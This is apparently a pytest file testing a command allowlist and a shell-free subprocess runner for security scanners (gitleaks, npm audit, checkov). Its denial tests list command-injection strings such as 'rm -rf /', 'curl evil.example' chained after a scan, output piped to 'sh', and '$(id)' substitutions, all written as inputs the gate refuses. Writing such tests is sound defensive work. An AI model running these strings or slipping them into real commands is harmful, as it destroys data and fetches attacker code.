"""Tests for the command allowlist gate and gated process runner."""

import asyncio

import pytest

from compliance_navigator import process
from compliance_navigator.allowlist import assert_argv_allowed, describe_policy, is_allowed
from compliance_navigator.errors import CommandNotAllowlisted, ScannerUnavailable


class TestIsAllowed:
    """Tests for allowlist matching."""

    @pytest.mark.parametrize(
        "command",
        [
            "gitleaks detect --source .",
            "gitleaks detect --source /repo --report-format json --no-git",
            "npm audit --json",
            "checkov -d /repo -o json",
            "checkov --directory /repo",
            "gitleaks version",
            "npm --version",
            "checkov --version",
            "  npm audit --json  ",
        ],
    )
    def test_scanner_commands_allowed(self, command):
        result = is_allowed(command)
        assert result.allowed
        assert result.rule is not None

    @pytest.mark.parametrize(
        "command",
        [
            "gitleaks detect; rm -rf /",
            "npm audit && curl evil.example",
            "checkov -d . | sh",
            "npm audit $(whoami)",
            "gitleaks detect `id`",
            "npm audit > /etc/passwd",
            "gitleaks detect\nrm -rf /",
        ],
    )
    def test_shell_metacharacters_denied(self, command):
        result = is_allowed(command)
        assert not result.allowed
        assert "metacharacter" in result.reason

    @pytest.mark.parametrize(
        "command",
        ["rm -rf /", "git status", "npm install lodash", "checkov", "gitleaks version extra", ""],
    )
    def test_unlisted_commands_denied(self, command):
        assert not is_allowed(command).allowed

    def test_describe_policy_lists_rules(self):
        policy = describe_policy()
        assert len(policy) == 6
        assert any("Gitleaks" in rule for rule in policy)


class TestAssertArgvAllowed:
    """Tests for gating argv lists."""

    def test_rejection_is_structured(self):
        with pytest.raises(CommandNotAllowlisted) as exc_info:
            assert_argv_allowed(["curl", "https://example.com"])

        envelope = exc_info.value.to_envelope()
        assert envelope["ok"] is False
        assert envelope["error"]["code"] == "E_COMMAND_NOT_ALLOWLISTED"

    @pytest.mark.parametrize(
        "argv",
        [
            ["checkov", "-d", "/work/widgets (copy)", "-o", "json"],
            ["gitleaks", "detect", "--source", "/work/R&D $team", "--report-path", "/work/R&D $team/out.json"],
            ["gitleaks", "detect", "--source", "/repo", "--config", "/repo/odd;name.toml"],
        ],
    )
    def test_metacharacters_in_paths_allowed(self, argv):
        assert assert_argv_allowed(argv).description

    @pytest.mark.parametrize(
        "argv",
        [
            ["gitleaks", "detect;", "--source", "/repo"],
            ["checkov", "-d", "/repo", "-o", "json|sh"],
            ["npm", "audit", "--json", "$(id)"],
            ["checkov", "-d", "/repo\x00evil"],
            ["npm", "install", "lodash"],
            [],
        ],
    )
    def test_denied(self, argv):
        with pytest.raises(CommandNotAllowlisted):
            assert_argv_allowed(argv)

    def test_path_flag_value_is_masked_once(self):
        # Only the value right after a path flag is a path
        with pytest.raises(CommandNotAllowlisted):
            assert_argv_allowed(["checkov", "-d", "/repo", "(x)"])


class TestRunCommand:
    """Tests for the gated subprocess runner."""

    def test_denied_command_spawns_nothing(self, monkeypatch):
        spawned = []

        async def fake_exec(*args, **kwargs):
            spawned.append(args)
            raise AssertionError("should not spawn")

        monkeypatch.setattr(asyncio, "create_subprocess_exec", fake_exec)

        with pytest.raises(CommandNotAllowlisted):
            asyncio.run(process.run_command(["gitleaks", "detect;", "rm", "-rf", "/"]))
        assert spawned == []

    def test_missing_binary_is_unavailable(self, monkeypatch):
        async def fake_exec(*args, **kwargs):
            raise FileNotFoundError(args[0])

        monkeypatch.setattr(asyncio, "create_subprocess_exec", fake_exec)

        with pytest.raises(ScannerUnavailable) as exc_info:
            asyncio.run(process.run_command(["gitleaks", "version"]))
        assert "not found" in exc_info.value.message

    def test_argv_is_passed_without_shell(self, monkeypatch):
        captured = {}

        class FakeProc:
            returncode = 0

            async def communicate(self):
                return b"8.18.2\n", b""

        async def fake_exec(*args, **kwargs):
            captured["args"] = args
            return FakeProc()

        monkeypatch.setattr(asyncio, "create_subprocess_exec", fake_exec)

        result = asyncio.run(process.run_command(["gitleaks", "version"]))
        assert captured["args"] == ("gitleaks", "version")
        assert result.exit_code == 0
        assert result.stdout == "8.18.2\n"
